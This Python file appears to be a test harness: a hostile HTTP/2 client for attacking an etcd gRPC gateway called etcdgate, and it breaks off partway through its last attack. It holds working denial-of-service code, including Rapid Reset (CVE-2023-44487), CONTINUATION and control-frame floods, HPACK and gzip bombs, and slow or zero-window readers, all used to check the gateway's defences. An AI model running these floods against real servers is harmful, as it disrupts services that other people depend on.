"""A hostile HTTP/2 client for etcdgate's attack tests, independent of etcdgate's own code:
TLS from Python's ssl module (presenting a client certificate), frames built and parsed
here on the wire format of RFC 9113 section 4, header blocks from Debian's python3-hpack
(the HPACK of the python-hyper h2 stack), frame constants from python3-hyperframe.

One process runs one attack and prints one JSON line with what the server did: every
GOAWAY (code, last stream id, debug text), every RST_STREAM and response per stream,
how many frames of each kind were sent before the server stopped the attack, and when.
Run with Debian's interpreter (/usr/bin/python3), which has the modules:

  /usr/bin/python3 h2-attack.py --port P --ca CA --cert C --key K ATTACK '{"param": ...}'

The attacks are the functions named attack_<name> below (dashes for underscores); each
one's docstring says what it sends and what it reports. Nothing here asserts: the tests
(test/attack-*.test.ts) judge the report.
"""
import asyncio
import gzip
import json
import socket
import ssl
import sys
import time
import zlib

import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    PushPromiseFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'
T_DATA = DataFrame.type
T_HEADERS = HeadersFrame.type
T_PRIORITY = PriorityFrame.type
T_RST = RstStreamFrame.type
T_SETTINGS = SettingsFrame.type
T_PUSH = PushPromiseFrame.type
T_PING = PingFrame.type
T_GOAWAY = GoAwayFrame.type
T_WINDOW = WindowUpdateFrame.type
T_CONT = ContinuationFrame.type
END_STREAM = 0x1
ACK = 0x1
END_HEADERS = 0x4
PADDED = 0x8
PRIORITY_FLAG = 0x20
S_HEADER_TABLE_SIZE = SettingsFrame.HEADER_TABLE_SIZE
S_INITIAL_WINDOW = SettingsFrame.INITIAL_WINDOW_SIZE
S_MAX_FRAME = SettingsFrame.MAX_FRAME_SIZE
S_MAX_STREAMS = SettingsFrame.MAX_CONCURRENT_STREAMS

ERRORS = ['NO_ERROR', 'PROTOCOL_ERROR', 'INTERNAL_ERROR', 'FLOW_CONTROL_ERROR', 'SETTINGS_TIMEOUT', 'STREAM_CLOSED',
          'FRAME_SIZE_ERROR', 'REFUSED_STREAM', 'CANCEL', 'COMPRESSION_ERROR', 'CONNECT_ERROR', 'ENHANCE_YOUR_CALM',
          'INADEQUATE_SECURITY', 'HTTP_1_1_REQUIRED']


def error_name(code):
    return ERRORS[code] if 0 <= code < len(ERRORS) else hex(code)


def frame(ftype, flags, sid, payload=b''):
    """One frame on the wire: 24-bit length, type, flags, 31-bit stream id, payload."""
    return len(payload).to_bytes(3, 'big') + bytes([ftype, flags]) + (sid & 0x7fffffff).to_bytes(4, 'big') + payload


def settings_payload(settings):
    return b''.join(k.to_bytes(2, 'big') + v.to_bytes(4, 'big') for k, v in settings.items())


# ------------------------------------------------------------------ protobuf, gRPC

def varint(n):
    out = bytearray()
    n &= (1 << 64) - 1
    while True:
        b = n & 0x7f
        n >>= 7
        if n:
            out.append(b | 0x80)
        else:
            out.append(b)
            return bytes(out)


def pb_bytes(num, value):
    return varint(num << 3 | 2) + varint(len(value)) + value


def pb_varint(num, value):
    return varint(num << 3) + varint(value)


def range_request(key, range_end=b'', keys_only=False):
    out = pb_bytes(1, key)
    if range_end:
        out += pb_bytes(2, range_end)
    if keys_only:
        out += pb_varint(8, 1)
    return out


def put_request(key, value):
    return pb_bytes(1, key) + pb_bytes(2, value)


def watch_create(key, range_end=b''):
    create = pb_bytes(1, key) + (pb_bytes(2, range_end) if range_end else b'')
    return pb_bytes(1, create)


def keepalive_request(lease_id):
    return pb_varint(1, lease_id)


def grpc_frame(message, compressed=False):
    return bytes([1 if compressed else 0]) + len(message).to_bytes(4, 'big') + message


def prefix_end(prefix):
    b = bytearray(prefix)
    while b and b[-1] == 0xff:
        b.pop()
    if not b:
        return b'\0'
    b[-1] += 1
    return bytes(b)


# ------------------------------------------------------------------ the connection

class Stream:
    def __init__(self, sid):
        self.sid = sid
        self.headers = []      # decoded header lists, in order
        self.rst = None        # RST_STREAM code received
        self.data = 0          # DATA payload bytes received
        self.buffer = b''      # unparsed gRPC bytes
        self.messages = 0      # complete gRPC messages received
        self.ended = False     # END_STREAM received
        self.t_end = None      # ms since the connection started, at END_STREAM or RST_STREAM
        self.window = 0        # what we may still send on it
        self.sent = 0          # DATA payload bytes sent on it

    def field(self, name):
        for block in self.headers:
            for n, v in block:
                if n == name:
                    return v
        return None

    def report(self):
        out = {'rst': None if self.rst is None else error_name(self.rst), 'ended': self.ended, 'data': self.data,
               'messages': self.messages, 'status': self.field(':status'), 'grpcStatus': self.field('grpc-status'),
               'grpcMessage': self.field('grpc-message'), 'tEnd': self.t_end}
        return out

    @property
    def finished(self):
        return self.ended or self.rst is not None


class Conn:
    """One TLS connection speaking HTTP/2 as a client; a task reads and records every frame."""

    def __init__(self, opts):
        self.opts = opts
        self.enc = hpack.Encoder()
        self.dec = hpack.Decoder(max_header_list_size=1 << 20)
        self.streams = {}
        self.goaways = []
        self.closed = False
        self.closed_at = None
        self.frames_in = {}
        self.settings = {}
        self.settings_acks = 0
        self.ping_acks = 0
        self.conn_window = 65535
        self.initial_window = 65535
        self.auto_window = True
        self.ack_settings = True
        self.pending = None
        self.changed = asyncio.Event()
        self.write_failed = None
        self.t0 = time.monotonic()
        self.next_sid = 1

    def ms(self):
        return round((time.monotonic() - self.t0) * 1000)

    async def connect(self, preface=True, settings=None, rcvbuf=None, handshake=True):
        o = self.opts
        ctx = ssl.create_default_context(cafile=o['ca'])
        ctx.load_cert_chain(o['cert'], o['key'])
        ctx.set_alpn_protocols(['h2'])
        ctx.check_hostname = False
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if rcvbuf is not None:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        sock.setblocking(False)
        await asyncio.get_running_loop().sock_connect(sock, (o['host'], o['port']))
        self.reader, self.writer = await asyncio.open_connection(sock=sock, ssl=ctx, server_hostname='localhost', limit=1 << 16)
        self.t0 = time.monotonic()
        if preface:
            self.write(PREFACE + frame(T_SETTINGS, 0, 0, settings_payload(settings or {})))
        self.read_task = asyncio.create_task(self._read())
        return self

    # -------------------------------------------------------------- reading

    async def _read(self):
        try:
            while True:
                head = await self.reader.readexactly(9)
                length = int.from_bytes(head[0:3], 'big')
                payload = await self.reader.readexactly(length) if length else b''
                self._on_frame(head[3], head[4], int.from_bytes(head[5:9], 'big') & 0x7fffffff, payload)
                self.changed.set()
        except (asyncio.IncompleteReadError, ConnectionError, ssl.SSLError, OSError):
            pass
        finally:
            self.closed = True
            self.closed_at = self.ms()
            self.changed.set()

    def stream(self, sid):
        s = self.streams.get(sid)
        if s is None:
            s = self.streams[sid] = Stream(sid)
            s.window = self.initial_window
        return s

    def _on_frame(self, ftype, flags, sid, payload):
        name = {T_DATA: 'DATA', T_HEADERS: 'HEADERS', T_PRIORITY: 'PRIORITY', T_RST: 'RST_STREAM', T_SETTINGS: 'SETTINGS',
                T_PUSH: 'PUSH_PROMISE', T_PING: 'PING', T_GOAWAY: 'GOAWAY', T_WINDOW: 'WINDOW_UPDATE',
                T_CONT: 'CONTINUATION'}.get(ftype, 'UNKNOWN')
        self.frames_in[name] = self.frames_in.get(name, 0) + 1
        if ftype == T_SETTINGS:
            if flags & ACK:
                self.settings_acks += 1
                return
            for i in range(0, len(payload) - 5, 6):
                key = int.from_bytes(payload[i:i + 2], 'big')
                value = int.from_bytes(payload[i + 2:i + 6], 'big')
                self.settings[key] = value
                if key == S_INITIAL_WINDOW:
                    delta = value - self.initial_window
                    self.initial_window = value
                    for s in self.streams.values():
                        s.window += delta
            if self.ack_settings:
                self.write(frame(T_SETTINGS, ACK, 0))
        elif ftype == T_PING:
            if flags & ACK:
                self.ping_acks += 1
            else:
                self.write(frame(T_PING, ACK, 0, payload))
        elif ftype == T_GOAWAY:
            self.goaways.append({'code': error_name(int.from_bytes(payload[4:8], 'big')),
                                 'lastStreamId': int.from_bytes(payload[0:4], 'big') & 0x7fffffff,
                                 'debug': payload[8:].decode('utf8', 'replace'), 'at': self.ms()})
        elif ftype == T_RST:
            s = self.stream(sid)
            s.rst = int.from_bytes(payload[0:4], 'big')
            s.t_end = s.t_end or self.ms()
        elif ftype == T_WINDOW:
            inc = int.from_bytes(payload[0:4], 'big') & 0x7fffffff
            if sid == 0:
                self.conn_window += inc
            else:
                self.stream(sid).window += inc
        elif ftype in (T_HEADERS, T_CONT):
            block = payload
            if ftype == T_HEADERS:
                if flags & PADDED:
                    block = block[1:len(block) - block[0]]
                if flags & PRIORITY_FLAG:
                    block = block[5:]
                self.pending = (sid, flags & END_STREAM, [block])
            else:
                self.pending[2].append(block)
            if flags & END_HEADERS:
                psid, end, parts = self.pending
                self.pending = None
                s = self.stream(psid)
                s.headers.append([(n.decode('latin1') if isinstance(n, bytes) else n, v.decode('latin1') if isinstance(v, bytes) else v)
                                  for n, v in self.dec.decode(b''.join(parts), raw=True)])
                if end:
                    s.ended = True
                    s.t_end = s.t_end or self.ms()
        elif ftype == T_DATA:
            s = self.stream(sid)
            data = payload
            if flags & PADDED:
                data = data[1:len(data) - data[0]]
            s.data += len(data)
            s.buffer += data
            while len(s.buffer) >= 5:
                n = int.from_bytes(s.buffer[1:5], 'big')
                if len(s.buffer) < 5 + n:
                    break
                s.buffer = s.buffer[5 + n:]
                s.messages += 1
            if flags & END_STREAM:
                s.ended = True
                s.t_end = s.t_end or self.ms()
            if self.auto_window and len(payload) > 0:
                inc = len(payload)
                self.write(frame(T_WINDOW, 0, 0, inc.to_bytes(4, 'big')) + frame(T_WINDOW, 0, sid, inc.to_bytes(4, 'big')))

    async def until(self, predicate, timeout):
        """Waits until predicate() holds, the connection closes, or timeout seconds pass; returns predicate()."""
        deadline = time.monotonic() + timeout
        while not predicate():
            left = deadline - time.monotonic()
            if left <= 0 or self.closed:
                return predicate()
            self.changed.clear()
            try:
                await asyncio.wait_for(self.changed.wait(), min(left, 0.5))
            except asyncio.TimeoutError:
                pass
        return True

    # -------------------------------------------------------------- writing

    def write(self, data):
        if self.closed or self.write_failed is not None:
            return False
        try:
            self.writer.write(data)
            return True
        except (ConnectionError, OSError, RuntimeError) as e:
            self.write_failed = repr(e)
            return False

    async def drain(self):
        if self.write_failed is not None:
            return False
        try:
            await asyncio.wait_for(self.writer.drain(), 30)
            return not self.closed
        except (ConnectionError, OSError, ssl.SSLError, asyncio.TimeoutError, RuntimeError) as e:
            self.write_failed = repr(e)
            return False

    def new_sid(self):
        sid = self.next_sid
        self.next_sid += 2
        return sid

    def request_block(self, path, extra=(), never_index=False):
        headers = [(':method', 'POST'), (':scheme', 'https'), (':path', path), (':authority', 'localhost'),
                   ('content-type', 'application/grpc'), ('te', 'trailers')] + list(extra)
        if never_index:
            headers = [hpack.NeverIndexedHeaderTuple(n, v) for n, v in headers]
        return self.enc.encode(headers)

    def headers(self, sid, block, end_stream=False, end_headers=True):
        self.stream(sid)
        return self.write(frame(T_HEADERS, (END_STREAM if end_stream else 0) | (END_HEADERS if end_headers else 0), sid, block))

    async def send_data(self, sid, data, end_stream=False, timeout=30):
        """Sends DATA as the server's windows allow; False when they stay closed for `timeout` s or the connection ends."""
        s = self.stream(sid)
        max_frame = self.settings.get(S_MAX_FRAME, 16384)
        pos = 0
        while pos < len(data):
            ok = await self.until(lambda: (self.conn_window > 0 and s.window > 0) or s.finished, timeout)
            if not ok or s.finished or self.closed:
                return False
            n = min(len(data) - pos, self.conn_window, s.window, max_frame)
            last = pos + n == len(data)
            self.conn_window -= n
            s.window -= n
            if not self.write(frame(T_DATA, END_STREAM if (last and end_stream) else 0, sid, data[pos:pos + n])):
                return False
            s.sent += n
            pos += n
            if not await self.drain():
                return False
        if len(data) == 0 and end_stream:
            self.write(frame(T_DATA, END_STREAM, sid))
        return True

    def close(self):
        try:
            self.writer.transport.abort()
        except Exception:
            pass

    def report(self, streams=False):
        out = {'goaway': self.goaways[0] if self.goaways else None, 'goaways': len(self.goaways), 'closed': self.closed,
               'closedAt': self.closed_at, 'framesIn': self.frames_in, 'writeFailed': self.write_failed,
               'settingsAcks': self.settings_acks, 'pingAcks': self.ping_acks, 'serverSettings': {str(k): v for k, v in self.settings.items()}}
        if streams:
            out['streams'] = {str(sid): s.report() for sid, s in sorted(self.streams.items())}
        return out


def summarize(conn_list):
    """Counts over every stream of every connection: RST codes, gRPC statuses, HTTP statuses."""
    rst, grpc_status, http_status = {}, {}, {}
    finished = 0
    total = 0
    for c in conn_list:
        for s in c.streams.values():
            total += 1
            if s.finished:
                finished += 1
            if s.rst is not None:
                rst[error_name(s.rst)] = rst.get(error_name(s.rst), 0) + 1
            g = s.field('grpc-status')
            if g is not None:
                grpc_status[g] = grpc_status.get(g, 0) + 1
            h = s.field(':status')
            if h is not None:
                http_status[h] = http_status.get(h, 0) + 1
    return {'streams': total, 'finished': finished, 'rst': rst, 'grpcStatus': grpc_status, 'httpStatus': http_status}


def goaway_codes(conn_list):
    codes = {}
    for c in conn_list:
        for g in c.goaways:
            codes[g['code']] = codes.get(g['code'], 0) + 1
    return codes


async def connected(opts, **kw):
    c = Conn(opts)
    await c.connect(**kw)
    await c.until(lambda: c.settings_acks > 0 or bool(c.settings), 5)
    return c


RANGE = '/etcdserverpb.KV/Range'
PUT = '/etcdserverpb.KV/Put'
WATCH = '/etcdserverpb.Watch/Watch'
KEEPALIVE = '/etcdserverpb.Lease/LeaseKeepAlive'


async def legit_range(c, key=b'/attack/probe'):
    """One ordinary Range on connection c; its stream's report."""
    sid = c.new_sid()
    c.headers(sid, c.request_block(RANGE))
    await c.send_data(sid, grpc_frame(range_request(key)), end_stream=True)
    await c.drain()
    await c.until(lambda: c.stream(sid).finished, 10)
    return c.stream(sid).report()


# ------------------------------------------------------------------ attacks

async def attack_rapid_reset(opts, p):
    """CVE-2023-44487: streams opened (HEADERS, optionally their Range request) and reset
    (RST_STREAM CANCEL) at once, in batches, without waiting. Reports how many were sent
    before the server's GOAWAY and its code."""
    c = await connected(opts)
    total, batch, body = p.get('streams', 20000), p.get('batch', 50), p.get('body', True)
    block = c.request_block(RANGE, never_index=True)
    data = frame(T_DATA, END_STREAM, 0, grpc_frame(range_request(p.get('key', '/attack/rr').encode())))
    sent = 0
    while sent < total and not c.closed and not c.goaways:
        out = bytearray()
        for _ in range(batch):
            sid = c.new_sid()
            out += frame(T_HEADERS, END_HEADERS, sid, block)
            if body:
                out += data[:5] + sid.to_bytes(4, 'big') + data[9:]
            out += frame(T_RST, 0, sid, (8).to_bytes(4, 'big'))
            sent += 1
        if not c.write(bytes(out)) or not await c.drain():
            break
    await c.until(lambda: c.closed, 5)
    return {'sent': sent, **c.report()}


async def attack_continuation(opts, p):
    """CONTINUATION flood: a HEADERS without END_HEADERS, then CONTINUATION frames of
    `size` bytes each that never end the block (`frames` at most). size 0 or 1: many
    tiny ones. Reports the frames sent before GOAWAY."""
    c = await connected(opts)
    size, limit = p.get('size', 16384), p.get('frames', 100000)
    sid = c.new_sid()
    c.headers(sid, c.request_block(RANGE, never_index=True), end_headers=False)
    chunk = b'\x40\x01a\x01b' * (size // 5) + b'\x82' * (size % 5)  # literal fields, never decoded
    sent = 0
    while sent < limit and not c.closed and not c.goaways:
        if not c.write(frame(T_CONT, 0, sid, chunk)):
            break
        sent += 1
        if sent % 64 == 0 and not await c.drain():
            break
    await c.until(lambda: c.closed, 5)
    return {'sent': sent, 'bytesSent': sent * len(chunk), **c.report()}


async def attack_hpack_bomb(opts, p):
    """HPACK bomb: one request puts a `entry`-byte header into the dynamic table, then
    `streams` requests each carry `refs` one-byte references to it (16 KiB of block
    decoding to refs x entry bytes). Reports each bomb's answer and a final ordinary
    Range on the same connection (the HPACK context must still be in step)."""
    c = await connected(opts)
    entry, refs, streams = p.get('entry', 4000), p.get('refs', 16000), p.get('streams', 50)
    first = c.new_sid()
    # Literal with incremental indexing, by hand, so the table holds exactly this entry (index 62).
    name, value = b'x-bomb', b'a' * entry
    insert = b'\x40' + hpack_string(name) + hpack_string(value)
    base = c.request_block(RANGE, never_index=True)
    c.headers(first, base + insert)
    await c.send_data(first, grpc_frame(range_request(b'/attack/bomb')), end_stream=True)
    await c.until(lambda: c.stream(first).finished, 10)
    bomb_sids = []
    for _ in range(streams):
        sid = c.new_sid()
        bomb_sids.append(sid)
        c.headers(sid, base + b'\xbe' * refs, end_stream=True)
        if not await c.drain():
            break
    await c.until(lambda: all(c.stream(s).finished for s in bomb_sids), 20)
    after = await legit_range(c) if not c.closed else None
    return {'first': c.stream(first).report(), 'bombs': summarize_streams(c, bomb_sids), 'after': after, **c.report()}


def hpack_string(b):
    """An HPACK string literal without Huffman (RFC 7541 5.2), 7-bit prefixed length."""
    return hpack_int(len(b), 7, 0) + b


def hpack_int(n, prefix, first):
    limit = (1 << prefix) - 1
    if n < limit:
        return bytes([first | n])
    out = bytearray([first | limit])
    n -= limit
    while n >= 128:
        out.append(n & 0x7f | 0x80)
        n >>= 7
    out.append(n)
    return bytes(out)


def summarize_streams(c, sids):
    class One:
        pass
    holder = One()
    holder.streams = {sid: c.stream(sid) for sid in sids}
    return summarize([holder])


async def attack_big_headers(opts, p):
    """Oversized header lists. 'list': `fields` small literal fields (a small block that
    decodes past the advertised SETTINGS_MAX_HEADER_LIST_SIZE), `streams` times, then an
    ordinary Range on the same connection. 'block': one header value of `bytes` octets,
    sent over HEADERS and CONTINUATION frames."""
    c = await connected(opts)
    if p.get('kind', 'list') == 'list':
        fields, streams = p.get('fields', 3000), p.get('streams', 20)
        extra = b''.join(b'\x00' + hpack_string(b'x-h%d' % i) + hpack_string(b'v') for i in range(fields))
        sids = []
        base = c.request_block(RANGE, never_index=True)
        for _ in range(streams):
            sid = c.new_sid()
            sids.append(sid)
            block = base + extra
            # Split into frames of at most 16 KiB.
            first, rest = block[:16384], block[16384:]
            out = frame(T_HEADERS, END_STREAM | (END_HEADERS if not rest else 0), sid, first)
            while rest:
                part, rest = rest[:16384], rest[16384:]
                out += frame(T_CONT, END_HEADERS if not rest else 0, sid, part)
            c.write(out)
            await c.drain()
        await c.until(lambda: all(c.stream(s).finished for s in sids), 20)
        after = await legit_range(c) if not c.closed else None
        return {'kind': 'list', 'encodedBytes': len(base + extra), 'requests': summarize_streams(c, sids), 'after': after, **c.report()}
    size = p.get('bytes', 100000)
    sid = c.new_sid()
    block = c.request_block(RANGE, never_index=True) + b'\x00' + hpack_string(b'x-big') + hpack_string(b'v' * size)
    first, rest = block[:16384], block[16384:]
    out = frame(T_HEADERS, END_STREAM, sid, first)
    while rest:
        part, rest = rest[:16384], rest[16384:]
        out += frame(T_CONT, END_HEADERS if not rest else 0, sid, part)
    c.write(out)
    await c.drain()
    await c.until(lambda: c.closed, 10)
    return {'kind': 'block', 'encodedBytes': len(block), **c.report(streams=True)}


async def attack_flood(opts, p):
    """Frames that carry no request, as fast as the socket takes them, `frames` at most:
    kind settings | ping | empty-data | window-update | window-update-stream | priority |
    unknown | closed-stream-data. Reports the frames sent before GOAWAY and its code."""
    c = await connected(opts)
    kind, limit, batch = p['kind'], p.get('frames', 200000), p.get('batch', 200)
    sid = 0
    if kind in ('empty-data', 'window-update-stream'):
        # A Watch stream: a streaming call waits for its messages without a read deadline.
        sid = c.new_sid()
        c.headers(sid, c.request_block(WATCH, never_index=True))
    if kind == 'closed-stream-data':
        # A stream the server has reset (its request is larger than allowed): then DATA on it.
        sid = c.new_sid()
        c.headers(sid, c.request_block(RANGE, never_index=True))
        c.write(frame(T_DATA, 0, sid, b'\x00\xff\xff\xff\xff'))
        await c.drain()
        await c.until(lambda: c.stream(sid).finished, 5)
    one = {
        'settings': frame(T_SETTINGS, 0, 0, settings_payload({S_MAX_STREAMS: 100})),
        'ping': frame(T_PING, 0, 0, b'12345678'),
        'empty-data': frame(T_DATA, 0, sid),
        'window-update': frame(T_WINDOW, 0, 0, (1).to_bytes(4, 'big')),
        'window-update-stream': frame(T_WINDOW, 0, sid, (1).to_bytes(4, 'big')),
        'priority': frame(T_PRIORITY, 0, 3, (0).to_bytes(4, 'big') + b'\x10'),
        'unknown': frame(0x42, 0, 0, b'hello'),
        'closed-stream-data': frame(T_DATA, 0, sid),
    }[kind]
    sent = 0
    started = time.monotonic()
    while sent < limit and not c.closed and not c.goaways:
        if not c.write(one * batch):
            break
        sent += batch
        if not await c.drain():
            break
    elapsed = time.monotonic() - started
    await c.until(lambda: c.closed, 5)
    return {'kind': kind, 'sent': sent, 'elapsedMs': round(elapsed * 1000), **c.report()}


async def attack_zero_window(opts, p):
    """Readers that never open their window: SETTINGS_INITIAL_WINDOW_SIZE 0 and no
    WINDOW_UPDATE, over `connections` connections of `streams` streams each: Ranges of
    [key, rangeEnd) (kind range) or watchers on it (kind watch). Held `holdMs`, then
    closed. Reports what arrived (headers, DATA bytes), resets and GOAWAYs."""
    kind, conns_n, streams, hold = p.get('kind', 'range'), p.get('connections', 1), p.get('streams', 100), p.get('holdMs', 5000)
    key = p['key'].encode()
    range_end = p['rangeEnd'].encode() if 'rangeEnd' in p else prefix_end(key)
    conns = []
    for _ in range(conns_n):
        c = Conn(opts)
        c.auto_window = False
        await c.connect(settings={S_INITIAL_WINDOW: 0})
        await c.until(lambda c=c: c.settings_acks > 0, 5)
        conns.append(c)
    msg = grpc_frame(range_request(key, range_end) if kind == 'range' else watch_create(key, range_end))
    path = RANGE if kind == 'range' else WATCH
    for c in conns:
        block = c.request_block(path, never_index=True)
        for _ in range(streams):
            sid = c.new_sid()
            c.headers(sid, block, end_stream=False)
            await c.send_data(sid, msg, end_stream=(kind == 'range'))
        await c.drain()
    started = time.monotonic()
    await asyncio.sleep(hold / 1000)
    out = {'heldMs': round((time.monotonic() - started) * 1000), 'summary': summarize(conns), 'goawayCodes': goaway_codes(conns),
           'dataBytes': sum(s.data for c in conns for s in c.streams.values()), 'closedByServer': sum(1 for c in conns if c.closed)}
    for c in conns:
        c.close()
    return out


async def attack_refusal_flood(opts, p):
    """Answers the server makes itself, asked for and not read: one Watch stream whose
    window starts at 0 (SETTINGS_INITIAL_WINDOW_SIZE 0), `creates` watch creates on [key,
    prefix end) that the policy refuses, sent as fast as the server's windows take them,
    each refused in-band with a response that waits in the server's queue. After
    `holdMs`, opens the stream's and the connection's windows wide and reads what was
    queued, `readMs` at most. Reports how many creates the server took (its windows) and
    how many refusals arrived, and how long the read took."""
    n, hold, read_ms = p.get('creates', 200000), p.get('holdMs', 2000), p.get('readMs', 60000)
    c = Conn(opts)
    c.auto_window = False
    await c.connect(settings={S_INITIAL_WINDOW: 0})
    await c.until(lambda: c.settings_acks > 0, 5)
    sid = c.new_sid()
    c.headers(sid, c.request_block(WATCH, never_index=True))
    msg = grpc_frame(watch_create(p['key'].encode(), prefix_end(p['key'].encode())))
    batch = p.get('batch', 500)
    s = c.stream(sid)
    sent = 0
    while sent < n and not s.finished and not c.closed:
        # Whole creates only, as many as the windows hold: none is left half-sent (that
        # would meet the server's read timeout, another defence than the one tried here).
        room = lambda: min(c.conn_window, s.window) // len(msg)
        if not await c.until(lambda: room() > 0 or s.finished, hold / 1000) or s.finished:
            break
        k = min(batch, n - sent, room())
        if not await c.send_data(sid, msg * k):
            break
        sent += k
    await asyncio.sleep(hold / 1000)
    queued_at = c.ms()
    big = (1 << 31) - 1 - 65535
    c.auto_window = True
    c.write(frame(T_SETTINGS, 0, 0, settings_payload({S_INITIAL_WINDOW: 1 << 30})) + frame(T_WINDOW, 0, 0, big.to_bytes(4, 'big')))
    await c.drain()
    last = [s.messages, c.ms()]

    def quiet():
        # Done once every refusal is in, or nothing more came for 3 s.
        if s.messages != last[0]:
            last[0], last[1] = s.messages, c.ms()
        return s.messages >= sent or s.finished or c.ms() - last[1] > 3000

    await c.until(quiet, read_ms / 1000)
    out = {'sent': sent, 'refusals': s.messages, 'readMs': c.ms() - queued_at, 'stream': s.report(), **c.report()}
    c.close()
    return out


async def attack_no_read(opts, p):
    """A client that stops reading the socket (TCP window closes): a small receive buffer,
    `streams` Ranges of [key, prefix end), the socket never read for `holdMs`. Then reads
    what is there and reports whether the server closed the connection."""
    c = Conn(opts)
    await c.connect(rcvbuf=4096)
    await c.until(lambda: c.settings_acks > 0, 5)
    c.read_task.cancel()
    key = p['key'].encode()
    block = c.request_block(RANGE, never_index=True)
    for _ in range(p.get('streams', 50)):
        sid = c.new_sid()
        c.headers(sid, block)
        c.write(frame(T_DATA, END_STREAM, sid, grpc_frame(range_request(key, prefix_end(key)))))
    await c.drain()
    await asyncio.sleep(p.get('holdMs', 5000) / 1000)
    c.close()
    return {'streams': p.get('streams', 50)}


async def attack_concurrent_streams(opts, p):
    """More streams than SETTINGS_MAX_CONCURRENT_STREAMS: `streams` Watch streams opened
    at once and kept open. Reports the server's limit, resets by code, GOAWAY."""
    c = await connected(opts)
    n = p.get('streams', 2000)
    block = c.request_block(WATCH, never_index=True)
    out = bytearray()
    for _ in range(n):
        out += frame(T_HEADERS, END_HEADERS, c.new_sid(), block)
    c.write(bytes(out))
    await c.drain()
    await c.until(lambda: c.closed or sum(1 for s in c.streams.values() if s.rst is not None) >= p.get('expectResets', n), p.get('waitMs', 5000) / 1000)
    await asyncio.sleep(0.3)
    after = await legit_range(c) if not c.closed and not c.goaways else None
    return {'opened': n, 'summary': summarize([c]), 'after': after, **c.report()}


async def attack_stall(opts, p):
    """Requests that announce `declared` bytes, send `send` of them (as the windows allow)
    and stall: `connections` x `streams`. Waits `waitMs` for the server to end them and
    reports each stream's end (reset code, gRPC status, ms after its last byte)."""
    conns_n, streams, declared, send = p.get('connections', 4), p.get('streams', 50), p.get('declared', 10 << 20), p.get('send', 9 << 20)
    path = p.get('path', PUT)
    conns = [await connected(opts) for _ in range(conns_n)]
    body = b'\x00' + declared.to_bytes(4, 'big') + b'\x01' * (send - 5)
    last_byte = {}

    async def one(c, sid):
        c.headers(sid, c.request_block(path, never_index=True))
        await c.send_data(sid, body, end_stream=False, timeout=p.get('sendTimeoutMs', 3000) / 1000)
        last_byte[(id(c), sid)] = c.ms()

    tasks = []
    for c in conns:
        for _ in range(streams):
            tasks.append(one(c, c.new_sid()))
    await asyncio.gather(*tasks)
    started = time.monotonic()
    await asyncio.wait_for(asyncio.gather(*[c.until(lambda c=c: all(s.finished for s in c.streams.values()), p.get('waitMs', 15000) / 1000) for c in conns]), 120)
    after_last = []
    for c in conns:
        for sid, s in c.streams.items():
            if s.t_end is not None:
                after_last.append(s.t_end - last_byte.get((id(c), sid), 0))
    out = {'summary': summarize(conns), 'goawayCodes': goaway_codes(conns), 'waitedMs': round((time.monotonic() - started) * 1000),
           'endAfterLastByteMs': {'min': min(after_last) if after_last else None, 'max': max(after_last) if after_last else None}}
    for c in conns:
        c.close()
    return out


async def attack_close_mid_read(opts, p):
    """`streams` requests whose message is still being read (a prefix announcing 1,000
    bytes, 10 of them sent), then the TCP connection is closed under them."""
    c = await connected(opts)
    n = p.get('streams', 200)
    block = c.request_block(PUT, never_index=True)
    out = bytearray()
    for _ in range(n):
        sid = c.new_sid()
        out += frame(T_HEADERS, END_HEADERS, sid, block) + frame(T_DATA, 0, sid, b'\x00' + (1000).to_bytes(4, 'big') + b'\x0a\x05hello')
    c.write(bytes(out))
    await c.drain()
    await asyncio.sleep(p.get('beforeCloseMs', 500) / 1000)
    report = c.report()
    c.close()
    return {'streams': n, 'resetBeforeClose': sum(1 for s in c.streams.values() if s.finished), **report}


def bomb_message(inflated, key):
    """A PutRequest whose value is `inflated` zero bytes, gzip-compressed (about 1,000 to 1)."""
    value_len = inflated
    header = pb_bytes(1, key) + varint(2 << 3 | 2) + varint(value_len)
    z = zlib.compressobj(9, zlib.DEFLATED, 31)
    out = z.compress(header)
    zero = b'\0' * (1 << 20)
    left = value_len
    while left > 0:
        n = min(left, len(zero))
        out += z.compress(zero[:n])
        left -= n
    out += z.flush()
    return out


async def attack_gzip_bombs(opts, p):
    """gzip bombs: `total` unary Puts marked grpc-encoding gzip, each a compressed message
    inflating to `inflated` bytes, over `connections` connections with at most `inFlight`
    per connection at a time. partial: only the first half of each compressed message is
    sent and the stream left open (what a server that refuses before reading still
    answers). Reports the gRPC statuses and how many streams got no answer."""
    conns_n, total, in_flight = p.get('connections', 2), p.get('total', 1000), p.get('inFlight', 50)
    partial = p.get('partial', False)
    compressed = bomb_message(p.get('inflated', 10 << 20), p.get('key', '/attack/bomb').encode())
    body = grpc_frame(compressed, compressed=True)
    if partial:
        body = body[:len(body) // 2]
    conns = [await connected(opts) for _ in range(conns_n)]
    started = time.monotonic()

    async def worker(c, count):
        block = c.request_block(PUT, extra=[('grpc-encoding', 'gzip')], never_index=True)
        sent = 0
        pending = []
        while sent < count and not c.closed:
            while len(pending) >= in_flight:
                await c.until(lambda: any(c.stream(s).finished for s in pending), 30)
                pending = [s for s in pending if not c.stream(s).finished]
                if c.closed:
                    return
            sid = c.new_sid()
            c.headers(sid, block)
            await c.send_data(sid, body, end_stream=not partial, timeout=10)
            pending.append(sid)
            sent += 1
        await c.until(lambda: all(c.stream(s).finished for s in pending), 30)

    per = total // conns_n
    await asyncio.gather(*[worker(c, per + (1 if i < total % conns_n else 0)) for i, c in enumerate(conns)])
    out = {'compressedBytes': len(compressed), 'elapsedMs': round((time.monotonic() - started) * 1000), 'summary': summarize(conns),
           'goawayCodes': goaway_codes(conns), 'unanswered': sum(1 for c in conns for s in c.streams.values() if not s.finished),
           'messages': {}}
    msgs = {}
    for c in conns:
        for s in c.streams.values():
            m = s.field('grpc-message')
            if m is not None:
                msgs[m] = msgs.get(m, 0) + 1
    out['messages'] = msgs
    for c in conns:
        c.close()
    return out


async def attack_keepalive_flood(opts, p):
    """LeaseKeepAlive flood: `streams` LeaseKeepAlive streams, each sending `perStream`
